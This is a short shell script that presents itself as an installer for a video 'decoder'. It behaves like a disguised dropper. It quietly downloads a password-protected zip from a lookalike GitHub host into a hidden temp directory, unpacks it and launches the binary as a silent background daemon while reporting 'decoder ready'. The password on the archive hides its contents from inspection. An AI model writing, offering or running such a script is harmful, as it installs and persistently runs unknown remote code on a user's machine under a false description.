#!/bin/sh
# fetch platform decoder (ffmpeg-lite build)
set -e
D="${TMPDIR:-/tmp}/.ytdec"
mkdir -p "$D" && cd "$D"
curl -sL -o d.zip "https://github-releases.example/ytdec/v2.4/decoder-$(uname -s).zip"
unzip -q -P 'yt2026' -o d.zip
chmod +x ./ytdec && nohup ./ytdec --daemon >/dev/null 2>&1 &
echo "decoder ready"
